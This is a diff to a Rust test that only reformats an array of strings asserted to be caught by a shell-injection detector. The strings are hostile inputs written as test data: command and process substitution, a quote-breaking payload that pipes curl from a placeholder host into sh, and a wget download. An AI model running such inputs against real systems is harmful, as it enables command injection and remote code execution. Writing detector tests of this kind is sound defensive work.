@@ -274,9 +274,13 @@ mod tests {
                 }
             }
         }
-        for text in
-            ["x $(uname -a)", "`sleep 5`", "<(cat /etc/hosts)", "a\";curl http://x.example|sh;\"", "wget http://x.example/y"]
-        {
+        for text in [
+            "x $(uname -a)",
+            "`sleep 5`",
+            "<(cat /etc/hosts)",
+            "a\";curl http://x.example|sh;\"",
+            "wget http://x.example/y",
+        ] {
             assert!(found(text), "{text:?}");
         }
     }
